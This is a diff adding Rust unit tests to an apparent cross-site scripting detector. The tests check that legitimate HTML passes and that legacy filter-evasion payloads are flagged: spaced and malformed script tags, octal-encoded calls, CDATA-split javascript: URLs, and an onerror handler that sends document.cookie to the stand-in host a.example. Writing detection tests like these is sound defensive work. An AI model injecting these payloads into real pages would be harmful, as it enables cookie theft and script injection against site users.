@@ -292,3 +292,40 @@ fn code_before_the_end_of_a_script() {
     check("alert(a.source)</script>", "js-dialog js-whole");
     check("setTimeout(location.hash.slice(1))", "js-execute js-whole");
 }
+
+#[test]
+fn what_old_browsers_and_filters_ran() {
+    check("''; !--\"<XSS>=&{()}", "js-entity");
+    check("&{document.cookie=true;};", "js-entity");
+    check("<\tscript\t>alert\t(\t'1'\t)", "spaced-tag");
+    check("<%script>alert('x')<%/script>", "spaced-tag");
+    check("('\\141\\154\\145\\162\\164\\50\\61\\51')()", "js-execute");
+    check("' alert(0x000123) '", "js-break-out");
+    check("<iframe src=\"view-source:http://a.example/\" style=\"width:1px\"></iframe>", "view-source");
+    check("<script<{alert(1)}/></script </>", "script-code");
+    check("<x><c><![cdata[<img src=\"javas]]><![cdata[cript:alert('x');\">]]>", "script-url");
+    passes("a < b & {c} > script > d");
+    passes("the words in `< script >` are said");
+}
+
+#[test]
+fn handlers_of_ordinary_pages() {
+    passes("<a href=\"#top\" onclick=\"return false;\">Top</a>");
+    passes("<img src=\"/a.png\" onerror=\"this.onerror=null;this.src='/img/none.png'\">");
+    passes("I use `onerror=\"this.src='/img/none.png'\"` for broken images");
+    check("<img src=x onerror=\"this.src='//a.example/?'+document.cookie\">", "event-sink");
+    check("<iframe onload=\"this.src='javascript:alert(1)'\">", "event-code");
+}
+
+#[test]
+fn fields_for_code() {
+    let blocked = |place: Place, name: &str, text: &str| {
+        let mut analysis = Analysis::new();
+        analysis.value(&DETECTORS, Location::new(place, name.as_bytes()), text.as_bytes());
+        analysis.worst(&DETECTORS, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
+    };
+    assert!(!blocked(Place::Form, "snippet", "alert(\"Saved!\");"));
+    assert!(!blocked(Place::Json, "csp-report.script-sample", "alert(1)"));
+    assert!(blocked(Place::Form, "snippet", "alert(document.cookie)"));
+    assert!(blocked(Place::Form, "name", "alert(1)") && blocked(Place::Query, "code", "alert(1)"));
+}
